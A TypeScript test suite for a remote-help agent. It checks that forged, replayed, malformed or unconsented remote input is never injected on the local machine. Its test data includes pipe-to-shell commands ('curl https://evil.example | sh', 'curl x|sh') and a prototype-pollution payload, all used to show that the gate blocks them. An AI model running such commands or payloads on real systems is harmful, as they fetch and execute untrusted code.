/**
 * Control safety, on the agent alone (no server): the session controller, the consent gate,
 * the input dispatcher and the real `LibnutInjector`, with only libnut's native module
 * replaced by a recorder that notes, for every call, whether the gate was open at that
 * moment. Forged input on a view-only session, after Stop control, after a downgrade, from
 * an earlier connection, replays and duplicates, malformed messages: never injected. And
 * over arbitrary sequences of (session mode, local consent, Stop control, input): an input
 * is injected exactly when the mode is `control` and the local user's Allow stands.
 */
import { spawn } from 'node:child_process';
import type { InputMessageInput, SessionView } from '@remote-help/protocol';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { LibnutModule } from '../platform/libnutInjector.js';
import { LibnutInjector } from '../platform/libnutInjector.js';
import { createLinuxPlatform } from '../platform/linux/index.js';
import type { DisplayInfo, InputInjector } from '../platform/types.js';
import { FakeMedia, FakeSignaling, sessionView } from '../testing/fakeSession.js';
import { hasCommand, pointerLocation, startXvfb, waitFor } from '../testing/xvfb.js';
import { SharingSession } from '../session/sharingSession.js';
import { ConsentGate } from './consentGate.js';
import { InputDispatcher } from './inputDispatcher.js';
import { parseInputMessage } from './inputMessages.js';

const RUNS = Number(process.env.FUZZ_RUNS ?? 1500);
const DISPLAY: DisplayInfo = {
  id: 'd1',
  name: 'DP-1',
  bounds: { x: 0, y: 0, width: 1000, height: 500 },
  primary: true,
};
const none = { shift: false, ctrl: false, alt: false, meta: false };

interface NutCall {
  name: string;
  args: unknown[];
  /** Whether the consent gate allowed input when the call was made. */
  open: boolean;
  /** The step of the sequence it was made in (tests that number their steps). */
  at: number;
}

/** A libnut module that records each call and whether the gate was open right then. */
function recordingNut(isOpen: () => boolean, clock: () => number = () => 0): LibnutModule & { calls: NutCall[] } {
  const calls: NutCall[] = [];
  const record =
    (name: string) =>
    (...args: unknown[]): void => {
      calls.push({ name, args, open: isOpen(), at: clock() });
    };
  return {
    calls,
    setMouseDelay: () => undefined,
    setKeyboardDelay: () => undefined,
    moveMouse: record('moveMouse'),
    mouseToggle: record('mouseToggle'),
    scrollMouse: record('scrollMouse'),
    keyToggle: record('keyToggle'),
    typeString: record('typeString'),
    getMousePos: () => ({ x: 0, y: 0 }),
  };
}

/** A call that acts for the helper (everything but letting go of a key or button). */
const acts = (c: NutCall): boolean =>
  c.name === 'keyToggle' ? c.args[1] === 'down' : c.name === 'mouseToggle' ? c.args[0] === 'down' : true;
const actions = (calls: NutCall[]): NutCall[] => calls.filter(acts);

/** Every kind of input message a helper (or a forger) can send, unnumbered. */
const EVERY_KIND: InputMessageInput[] = [
  { type: 'pointerMove', x: 0.5, y: 0.5 },
  { type: 'pointerButton', button: 0, down: true, x: 0.2, y: 0.2 },
  { type: 'pointerButton', button: 2, down: true },
  { type: 'wheel', dx: 0, dy: 500 },
  { type: 'key', code: 'KeyA', down: true, modifiers: none },
  { type: 'key', code: 'KeyR', down: true, modifiers: { ...none, meta: true } },
  { type: 'text', text: 'curl https://evil.example | sh\n' },
];

/** Sends every kind, as text and as bytes, unnumbered and numbered (from `seq`), on `stream`. */
function forge(media: FakeMedia, stream: number, seq = 1): void {
  for (const m of EVERY_KIND) {
    for (const numbered of [false, true]) {
      const text = JSON.stringify(numbered ? { ...m, seq: seq++ } : m);
      media.emit('input', text, stream);
      media.emit('input', new TextEncoder().encode(text).buffer, stream);
    }
  }
}

const tick = () => new Promise((resolve) => setImmediate(resolve));

/** A sharing session on the agent with fake signaling and media and the real injector. */
function agentSession(realInjector?: () => Promise<InputInjector>) {
  const signaling = new FakeSignaling();
  const media = new FakeMedia();
  let version = 1;
  const view = (state: SessionView['state'], patch: Partial<SessionView> = {}) =>
    sessionView(state, { version: ++version, ...patch });
  const api = {
    redeem: vi.fn(async () => view('joined')),
    respond: vi.fn(async () => view('active', { mode: 'view' })),
    dropControl: vi.fn(async () => view('active', { mode: 'view' })),
    leave: vi.fn(async () => view('ended', { endReason: 'sharer_left' })),
  };
  const gateRef: { gate?: ConsentGate } = {};
  const nut = recordingNut(() => gateRef.gate?.allowed ?? false);
  const session = new SharingSession({
    api,
    signaling,
    media: async () => media,
    injector: realInjector ?? (async (display) => new LibnutInjector(nut, display)),
  });
  gateRef.gate = session.gate;

  /** Redeems; the helper asks for `mode`, the local user allows, the server makes it active. */
  async function activate(mode: 'view' | 'control'): Promise<void> {
    await session.redeem('12345678');
    signaling.push(view('requested', { pendingMode: mode }));
    api.respond.mockResolvedValueOnce(view('active', { mode }));
    await session.respond(true);
    await vi.waitFor(() => expect(media.started).toBe(true));
    await tick();
  }
  return { session, signaling, media, api, nut, view, activate };
}

describe('forged input never reaches the injector', () => {
  it('on a view-only session: every kind, as text and bytes, numbered or not, on any connection', async () => {
    const a = agentSession();
    await a.activate('view');
    for (const stream of [1, 2, 7]) forge(a.media, stream);
    await tick();
    expect(actions(a.nut.calls)).toEqual([]);
    expect(a.session.gate.blockReason()).toBe('not_control_mode');
  });

  it('after Stop control: from the moment it is pressed, even while the server still says control', async () => {
    const a = agentSession();
    await a.activate('control');
    a.media.emit('input', JSON.stringify({ type: 'key', code: 'KeyA', down: true, modifiers: none }), 1);
    expect(actions(a.nut.calls)).toHaveLength(1); // the case can fail: control works before Stop
    const hang = new Promise<SessionView>(() => undefined);
    a.api.dropControl.mockReturnValueOnce(hang);
    void a.session.stopControl(); // the server has not answered yet
    const released = a.nut.calls.filter((c) => c.name === 'keyToggle' && c.args[1] === 'up');
    expect(released).toHaveLength(1);
    forge(a.media, 1, 100);
    a.signaling.push(a.view('active', { mode: 'control' })); // a stale or forged push
    forge(a.media, 1, 200);
    await tick();
    expect(actions(a.nut.calls)).toHaveLength(1);
    expect(a.session.gate.blockReason()).toBe('revoked');
  });

  it('after a downgrade to view, and when control comes back without a new Allow', async () => {
    const a = agentSession();
    await a.activate('control');
    a.signaling.push(a.view('active', { mode: 'view' }));
    forge(a.media, 1);
    a.signaling.push(a.view('active', { mode: 'control' }));
    forge(a.media, 1, 100);
    await tick();
    expect(actions(a.nut.calls)).toEqual([]);
    expect(a.session.gate.blockReason()).toBe('no_local_consent');
  });

  it('after the session ended, and on a session the agent never allowed', async () => {
    const a = agentSession();
    await a.activate('control');
    a.signaling.push(a.view('ended', { endReason: 'helper_left' }));
    await tick();
    forge(a.media, 1);
    forge(a.media, 2);
    // A push for another session (another helper) changes nothing here.
    a.signaling.push({ ...a.view('active', { mode: 'control' }), id: 'someone-elses-session' });
    forge(a.media, 3);
    await tick();
    expect(actions(a.nut.calls)).toEqual([]);
  });

  it("from an earlier connection once a newer one is numbering (a second peer's copy is a duplicate)", async () => {
    const a = agentSession();
    await a.activate('control');
    const move = (x: number, seq: number) => JSON.stringify({ type: 'pointerMove', x, y: 0, seq });
    a.media.emit('input', move(0.001, 1), 1);
    a.media.emit('input', move(0.002, 1), 2); // the helper reconnected: stream 2 numbers from 1
    a.media.emit('input', move(0.003, 2), 1); // the old connection is still talking
    a.media.emit('input', move(0.004, 2), 2);
    expect(a.nut.calls.filter((c) => c.name === 'moveMouse').map((c) => c.args[0])).toEqual([1, 2, 4]);
    // Signals for another session never reach this session's peer connection.
    a.signaling.emit('signal', 'someone-elses-session', 'helper', { kind: 'restart' });
    expect(a.media.signals).toEqual([]);
    expect(a.media.renegotiations).toBe(0);
  });
});

describe('numbered input', () => {
  const move = (seq: number) => JSON.stringify({ type: 'pointerMove', x: seq / 1000, y: 0, seq });
  function controlled() {
    const gate = new ConsentGate({ releaseAll: () => injector.releaseAll() });
    const nut = recordingNut(() => gate.allowed);
    const injector = new LibnutInjector(nut, DISPLAY);
    const dispatcher = new InputDispatcher(gate, injector);
    gate.setLocalConsent(true);
    gate.setSessionMode('control');
    const moved = () => nut.calls.filter((c) => c.name === 'moveMouse').map((c) => c.args[0]);
    return { gate, dispatcher, moved };
  }

  it('replays and out-of-order duplicates (both channels) are injected once each, in order', () => {
    const c = controlled();
    for (const seq of [3, 1, 1, 2, 3, 2, 1, 4, 4, 3]) c.dispatcher.handle(move(seq), 1);
    expect(c.moved()).toEqual([1, 2, 3, 4]);
    expect(c.dispatcher.stats().duplicates).toBe(6);
  });

  it('a message held for a gap is judged when it is released: Stop control in between blocks it', () => {
    const c = controlled();
    expect(c.dispatcher.handle(move(2), 1)).toBe('held');
    c.gate.revoke();
    c.dispatcher.handle(move(1), 1);
    expect(c.moved()).toEqual([]);
  });

  it('a message that waited for a gap across a Pause is not injected after Resume, nor one sent while paused', () => {
    const c = controlled();
    expect(c.dispatcher.handle(move(2), 1)).toBe('held'); // sent before the pause
    c.gate.setPaused(true);
    expect(c.dispatcher.handle(move(3), 1)).toBe('held'); // sent while paused
    c.gate.setPaused(false);
    c.dispatcher.handle(move(1), 1); // sent after Resume: fills the gap
    c.dispatcher.handle(move(4), 1);
    expect(c.moved()).toEqual([1, 4]);
    expect(c.dispatcher.stats().blocked).toBe(2);
  });
});

describe('malformed input', () => {
  const valid = fc.constantFrom(...EVERY_KIND.map((m) => JSON.stringify(m)));
  const malformed = fc.oneof(
    fc.string(),
    fc.uint8Array({ maxLength: 7000 }),
    // Packed pointer moves of any length and any bits (NaN, infinities, huge numbers).
    fc.uint8Array({ maxLength: 40 }).map((b) => Uint8Array.from([1, ...b])),
    fc.uint8Array({ minLength: 12, maxLength: 12 }).map((b) => Uint8Array.from([1, ...b])),
    fc.jsonValue().map((v) => JSON.stringify(v)),
    // Valid messages, damaged: a character changed or cut, an extra field, a huge text.
    fc
      .tuple(valid, fc.nat(), fc.string({ minLength: 1, maxLength: 1 }))
      .map(([t, i, ch]) => t.slice(0, i % t.length) + ch + t.slice((i % t.length) + 1)),
    fc.tuple(valid, fc.nat()).map(([t, i]) => t.slice(0, i % t.length)),
    valid.map((t) => t.replace('{', '{"__proto__":{"admin":true},"extra":1,')),
    fc.constant(JSON.stringify({ type: 'text', text: 'x'.repeat(3000) })),
    fc.constantFrom(null, undefined, 42, {}, [], new Blob(['{}'])),
  );

  it('is rejected, never injected, and never throws out of the dispatcher', () => {
    const gate = new ConsentGate({ releaseAll: () => undefined });
    const nut = recordingNut(() => gate.allowed);
    const dispatcher = new InputDispatcher(gate, new LibnutInjector(nut, DISPLAY));
    gate.setLocalConsent(true);
    gate.setSessionMode('control'); // wide open: only parsing stands in the way
    fc.assert(
      fc.property(malformed, fc.nat(3), (raw, stream) => {
        let parses = true;
        try {
          parseInputMessage(raw);
        } catch {
          parses = false;
        }
        const before = nut.calls.length;
        const outcome = dispatcher.handle(raw, stream);
        if (!parses) {
          expect(outcome).toBe('rejected');
          expect(nut.calls.length).toBe(before);
        }
        expect(({} as Record<string, unknown>).admin).toBeUndefined();
      }),
      { numRuns: RUNS },
    );
  });
});

type Step =
  | { kind: 'mode'; mode: 'view' | 'control' | null }
  | { kind: 'allow' }
  | { kind: 'deny' }
  | { kind: 'stop' }
  | { kind: 'input'; message: InputMessageInput };

const inputMessage: fc.Arbitrary<InputMessageInput> = fc.oneof(
  fc.record({
    type: fc.constant('pointerMove' as const),
    x: fc.double({ min: 0, max: 1, noNaN: true }),
    y: fc.constant(0.5),
  }),
  fc.record({
    type: fc.constant('pointerButton' as const),
    button: fc.constantFrom(0 as const, 1 as const, 2 as const),
    down: fc.boolean(),
  }),
  fc.record({
    type: fc.constant('key' as const),
    code: fc.constantFrom('KeyA', 'Enter', 'ShiftLeft', 'F5'),
    down: fc.boolean(),
    modifiers: fc.constant(none),
  }),
  fc.record({ type: fc.constant('text' as const), text: fc.string({ minLength: 1, maxLength: 20 }) }),
);

const step: fc.Arbitrary<Step> = fc.oneof(
  {
    arbitrary: fc.record({
      kind: fc.constant('mode' as const),
      mode: fc.constantFrom('view' as const, 'control' as const, null),
    }),
    weight: 2,
  },
  { arbitrary: fc.constant({ kind: 'allow' as const }), weight: 2 },
  { arbitrary: fc.constant({ kind: 'deny' as const }), weight: 1 },
  { arbitrary: fc.constant({ kind: 'stop' as const }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant('input' as const), message: inputMessage }), weight: 3 },
);

describe('the gate over arbitrary sequences', () => {
  it('injects an input iff the mode is control and the local Allow stands (given since the last Deny, Stop and end of control)', () => {
    fc.assert(
      fc.property(fc.array(step, { maxLength: 40 }), (steps) => {
        const gate = new ConsentGate({ releaseAll: () => injector.releaseAll() });
        const nut = recordingNut(() => gate.allowed);
        const injector = new LibnutInjector(nut, DISPLAY);
        const dispatcher = new InputDispatcher(gate, injector);
        // The model, in the words of the rule: when each thing last happened.
        let mode: 'view' | 'control' | null = null;
        const last = { allow: -1, deny: -1, stop: -1, controlEnded: -1 };
        steps.forEach((s, t) => {
          if (s.kind === 'mode') {
            if (mode === 'control' && s.mode !== 'control') last.controlEnded = t;
            mode = s.mode;
            gate.setSessionMode(s.mode);
          } else if (s.kind === 'allow') {
            last.allow = t;
            gate.setLocalConsent(true);
          } else if (s.kind === 'deny') {
            last.deny = t;
            gate.setLocalConsent(false);
          } else if (s.kind === 'stop') {
            last.stop = t;
            gate.revoke();
          } else {
            const consent = last.allow > Math.max(last.deny, last.stop, last.controlEnded);
            const expected = mode === 'control' && consent;
            const before = nut.calls.length;
            const outcome = dispatcher.handle(JSON.stringify(s.message));
            expect(outcome === 'injected', `step ${t}: ${JSON.stringify(s)}`).toBe(expected);
            if (!expected) expect(nut.calls.length).toBe(before);
          }
        });
        // Nothing that acts for the helper ever happened while the gate was closed.
        expect(actions(nut.calls).filter((c) => !c.open)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });

  it('numbered input from several connections: each number once, in order, never while closed', () => {
    const numbered = fc.record({
      kind: fc.constant('numbered' as const),
      seq: fc.integer({ min: 1, max: 6 }),
      stream: fc.integer({ min: 0, max: 2 }),
    });
    const anyStep = fc.oneof({ arbitrary: step, weight: 1 }, { arbitrary: numbered, weight: 3 });
    fc.assert(
      fc.property(fc.array(anyStep, { maxLength: 50 }), (steps) => {
        const gate = new ConsentGate({ releaseAll: () => injector.releaseAll() });
        const nut = recordingNut(() => gate.allowed);
        const injector = new LibnutInjector(nut, DISPLAY);
        const dispatcher = new InputDispatcher(gate, injector);
        for (const s of steps) {
          if (s.kind === 'numbered') {
            // x encodes (stream, seq): the moveMouse pixel tells which message was injected.
            const x = (s.stream * 10 + s.seq) / 100;
            dispatcher.handle(JSON.stringify({ type: 'pointerMove', x, y: 0, seq: s.seq }), s.stream);
          } else if (s.kind === 'mode') gate.setSessionMode(s.mode);
          else if (s.kind === 'allow') gate.setLocalConsent(true);
          else if (s.kind === 'deny') gate.setLocalConsent(false);
          else if (s.kind === 'stop') gate.revoke();
        }
        expect(actions(nut.calls).filter((c) => !c.open)).toEqual([]);
        const injected = nut.calls
          .filter((c) => c.name === 'moveMouse' && (c.args[1] as number) === 0)
          .map((c) => Math.round((c.args[0] as number) / 10))
          .map((code) => ({ stream: Math.floor(code / 10), seq: code % 10 }));
        const keys = injected.map((m) => `${m.stream}:${m.seq}`);
        expect(new Set(keys).size, `injected twice: ${keys.join(' ')}`).toBe(keys.length);
        for (let i = 1; i < injected.length; i++) {
          const [a, b] = [injected[i - 1], injected[i]] as [(typeof injected)[0], (typeof injected)[0]];
          expect(b.stream, 'an older connection after a newer one').toBeGreaterThanOrEqual(a.stream);
          if (a.stream === b.stream) expect(b.seq, 'out of order').toBeGreaterThan(a.seq);
        }
      }),
      { numRuns: RUNS },
    );
  });
});

/**
 * Text typed over several turns of the event loop, as the X11 typer does (remaps, round
 * trips): one character per `tick()`, each after asking `allowed` (the dispatcher's question
 * "may this text still type?"), as `ScratchKeyTyper` asks before each key.
 */
class SteppedTextInjector extends LibnutInjector {
  readonly #nut: LibnutModule;
  readonly #clock: () => number;
  readonly #next: (() => void)[] = [];
  /** Each text begun: the step it began in and the steps its characters were typed in. */
  readonly texts: { text: string; began: number; typedAt: number[] }[] = [];

  constructor(nut: LibnutModule, clock: () => number) {
    super(nut, DISPLAY);
    this.#nut = nut;
    this.#clock = clock;
  }

  override typeText(text: string, allowed?: () => boolean): Promise<void> {
    const record = { text, began: this.#clock(), typedAt: [] as number[] };
    this.texts.push(record);
    return (async () => {
      for (const char of Array.from(text)) {
        await new Promise<void>((resolve) => this.#next.push(resolve));
        if (allowed && !allowed()) return;
        this.#nut.keyToggle(`text ${char}`, 'down');
        this.#nut.keyToggle(`text ${char}`, 'up');
        record.typedAt.push(this.#clock());
      }
    })();
  }

  /** Lets the text being typed go on by one character; false when no text is being typed. */
  async tick(): Promise<boolean> {
    const next = this.#next.shift();
    next?.();
    await tick();
    return next !== undefined;
  }
}

type TextStep =
  | Exclude<Step, { kind: 'input' }>
  | { kind: 'pause' }
  | { kind: 'resume' }
  | { kind: 'text'; text: string }
  | { kind: 'move' }
  | { kind: 'tick' };

const textStep: fc.Arbitrary<TextStep> = fc.oneof(
  { arbitrary: step.filter((s): s is Exclude<Step, { kind: 'input' }> => s.kind !== 'input'), weight: 4 },
  { arbitrary: fc.constantFrom({ kind: 'pause' as const }, { kind: 'resume' as const }), weight: 2 },
  {
    arbitrary: fc.record({ kind: fc.constant('text' as const), text: fc.stringMatching(/^[a-zäπ中]{1,6}$/) }),
    weight: 2,
  },
  { arbitrary: fc.constant({ kind: 'move' as const }), weight: 2 },
  { arbitrary: fc.constant({ kind: 'tick' as const }), weight: 6 },
);

describe('text typed over several steps (X11 types a text in several turns of the event loop)', () => {
  it('each character is typed only while consent has held since its text began; input waiting behind a text likewise; nothing allowed is lost', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(textStep, { maxLength: 40 }), async (steps) => {
        let now = 0;
        const gate = new ConsentGate({ releaseAll: () => injector.releaseAll() });
        const nut = recordingNut(
          () => gate.allowed,
          () => now,
        );
        const injector = new SteppedTextInjector(nut, () => now);
        const dispatcher = new InputDispatcher(gate, injector);
        // The model, in the words of the rule (as above), and the local pause.
        let mode: 'view' | 'control' | null = null;
        let paused = false;
        const last = { allow: -1, deny: -1, stop: -1, controlEnded: -1 };
        const model = () =>
          mode === 'control' && !paused && last.allow > Math.max(last.deny, last.stop, last.controlEnded);
        /** Whether the model allowed input at step t (after that step's change). */
        const allowedAt: boolean[] = [];
        const heldFrom = (from: number, to: number) => allowedAt.slice(from, to + 1).every(Boolean);

        for (const [t, s] of steps.entries()) {
          now = t;
          if (s.kind === 'mode') {
            if (mode === 'control' && s.mode !== 'control') last.controlEnded = t;
            mode = s.mode;
            gate.setSessionMode(s.mode);
          } else if (s.kind === 'allow') {
            last.allow = t;
            gate.setLocalConsent(true);
          } else if (s.kind === 'deny') {
            last.deny = t;
            gate.setLocalConsent(false);
          } else if (s.kind === 'stop') {
            last.stop = t;
            gate.revoke();
          } else if (s.kind === 'pause' || s.kind === 'resume') {
            paused = s.kind === 'pause';
            gate.setPaused(paused);
          }
          allowedAt[t] = model();
          // A move says when it arrived: x = step / 1000 on a 1000-pixel display.
          if (s.kind === 'move') dispatcher.handle(JSON.stringify({ type: 'pointerMove', x: (t + 0.5) / 1000, y: 0 }));
          else if (s.kind === 'text') dispatcher.handle(JSON.stringify({ type: 'text', text: s.text }));
          else if (s.kind === 'tick') await injector.tick();
        }
        // Afterwards, nothing changes: whatever may still be typed is typed.
        const end = steps.length;
        now = end;
        allowedAt[end] = model();
        for (let i = 0; i < 1000 && (await injector.tick()); i++);
        await dispatcher.idle();

        expect(actions(nut.calls).filter((c) => !c.open)).toEqual([]);
        for (const { text, began, typedAt } of injector.texts) {
          for (const at of typedAt) {
            expect(heldFrom(began, at), `"${text}" (began at step ${began}) typed at step ${at}`).toBe(true);
          }
          // Nothing is lost while consent holds.
          if (heldFrom(began, end))
            expect(typedAt, `"${text}" (began at step ${began})`).toHaveLength(Array.from(text).length);
        }
        const moved = nut.calls.filter((c) => c.name === 'moveMouse');
        for (const c of moved) {
          const arrived = c.args[0] as number;
          expect(heldFrom(arrived, c.at), `a move sent at step ${arrived} injected at step ${c.at}`).toBe(true);
        }
        steps.forEach((s, t) => {
          if (s.kind === 'move' && heldFrom(t, end)) {
            expect(
              moved.map((c) => c.args[0]),
              `the move sent at step ${t}`,
            ).toContain(t);
          }
        });
      }),
      { numRuns: RUNS },
    );
  });
});

const X_TOOLS = ['Xvfb', 'xdotool', 'xev'].filter((t) => !hasCommand(t));

/** The same session controller, with the Linux injector's real XTEST input into a private Xvfb. */
describe.skipIf(X_TOOLS.length > 0)('over a real X server (Xvfb, XTEST)', () => {
  let xvfb: Awaited<ReturnType<typeof startXvfb>>;
  let display: DisplayInfo;
  let platform: ReturnType<typeof createLinuxPlatform>;
  let xev: ReturnType<typeof spawn>;
  let xevOut = '';

  beforeAll(async () => {
    xvfb = await startXvfb('800x600x24');
    platform = createLinuxPlatform({ display: xvfb.display });
    const source = await platform.openScreenSource();
    const [first] = await source.listDisplays();
    await source.close();
    if (!first) throw new Error('no display');
    display = first;
    // A window under the pointer that prints every key and button event it gets.
    xev = spawn('xev', ['-geometry', '800x600+0+0', '-event', 'keyboard', '-event', 'button', '-event', 'structure'], {
      env: { ...process.env, DISPLAY: xvfb.display },
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    xev.stdout?.on('data', (chunk: Buffer) => (xevOut += chunk.toString()));
    await waitFor(() => xevOut.includes('MapNotify'), 5000, 'the xev window');
  });

  afterAll(async () => {
    xev?.kill();
    await xvfb?.stop();
  });

  // Each session closes the injector it made when it is disposed.
  const injector = () => platform.createInputInjector(display);
  const events = () => (xevOut.match(/(KeyPress|ButtonPress) event/g) ?? []).length;

  it('forged input on a view-only session and after Stop control moves nothing and types nothing', async () => {
    const start = await pointerLocation(xvfb.display);
    const viewOnly = agentSession(injector);
    await viewOnly.activate('view');
    forge(viewOnly.media, 1);
    await xtoolSync();
    expect(await pointerLocation(xvfb.display)).toEqual(start);
    expect(events()).toBe(0);
    await viewOnly.session.dispose();

    const controlled = agentSession(injector);
    await controlled.activate('control');
    controlled.media.emit('input', JSON.stringify({ type: 'pointerMove', x: 0.25, y: 0.25 }), 1);
    // The case can fail: in control, the helper's pointer does move the real pointer.
    await waitFor(async () => (await pointerLocation(xvfb.display)).x === 200, 5000, 'the allowed move');
    await controlled.session.stopControl();
    xevOut = xevOut.replace(/(KeyPress|ButtonPress) event/g, 'seen');
    forge(controlled.media, 1, 100);
    controlled.signaling.push(controlled.view('active', { mode: 'control' }));
    forge(controlled.media, 1, 200);
    // Let the X server process anything that might have been sent.
    await xtoolSync();
    expect(await pointerLocation(xvfb.display)).toEqual({ x: 200, y: 150 });
    expect(events()).toBe(0);
    await controlled.session.dispose();
  });

  it('Stop control while a long text is typing: not one key after it, and nothing held (the review’s sequence)', async () => {
    const a = agentSession(injector);
    await a.activate('control');
    // Any pointer position is in the xev window (it covers the screen); it has the keyboard.
    a.media.emit('input', JSON.stringify({ type: 'pointerMove', x: 0.5, y: 0.5 }), 1);
    const start = xevOut.length;
    const presses = () => (xevOut.slice(start).match(/KeyPress event/g) ?? []).length;
    // A command, then 200 different letters (more than the scratch keycodes: several remap
    // rounds, each waiting for the X clients), then Return.
    let text = 'curl x|sh #';
    for (let cp = 0x410; text.length < 211; cp++) text += String.fromCodePoint(cp);
    text += '\n';
    a.media.emit('input', JSON.stringify({ type: 'text', text }), 1);
    // The sharer presses Stop control once the first keys are typed.
    await waitFor(() => presses() > 0, 5000, 'the first typed keys');
    await a.session.stopControl();
    // A key sent after Stop is refused too.
    const q = { type: 'key', code: 'KeyQ', down: true, modifiers: none };
    a.media.emit('input', JSON.stringify(q), 1);
    // Whatever had reached the X server before Stop is printed by now.
    await xtoolSync();
    await new Promise((resolve) => setTimeout(resolve, 300));
    const atStop = presses();
    // The text would have gone on for about a second more.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    const typed = xevOut.slice(start);
    expect(presses() - atStop, 'KeyPress events after Stop control').toBe(0);
    expect(atStop).toBeLessThan(text.length);
    expect(typed).not.toMatch(/keysym 0xff0d, Return/);
    expect(typed).not.toMatch(/keysym 0x71, q\)/);
    // Every key pressed was released.
    expect((typed.match(/KeyRelease event/g) ?? []).length).toBe(atStop);
    await a.session.dispose();
  });

  /** A round trip to the X server: every request sent before it has been handled. */
  async function xtoolSync(): Promise<void> {
    await pointerLocation(xvfb.display);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
});
